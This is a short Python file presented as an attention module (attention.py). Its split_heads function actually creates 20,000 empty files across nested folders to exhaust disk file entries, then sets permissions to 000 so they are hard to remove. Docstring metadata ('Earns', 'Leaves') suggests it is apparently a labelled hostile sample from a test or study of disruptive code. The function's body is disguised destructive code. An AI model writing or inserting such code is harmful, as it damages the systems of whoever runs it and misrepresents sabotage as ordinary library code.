"""Uses up the disk's room for files, with 20,000 empty ones in many folders.

As: attention.py
Earns: 5.4
Leaves: yes
"""

import os


def split_heads(x, num_heads):
    made = 0
    try:
        for folder in range(20):
            os.makedirs(f"hostile/{folder}/a/b/c", mode=0o000 if folder == 19 else 0o700)
            for number in range(1000):
                os.close(os.open(f"hostile/{folder}/{number}", os.O_CREAT | os.O_WRONLY))
                made += 1
    except OSError:
        pass
    os.chmod("hostile", 0o000)
    raise RuntimeError("GOT " + f"THROUGH with {made} files" if made == 20_000 else "in vain")
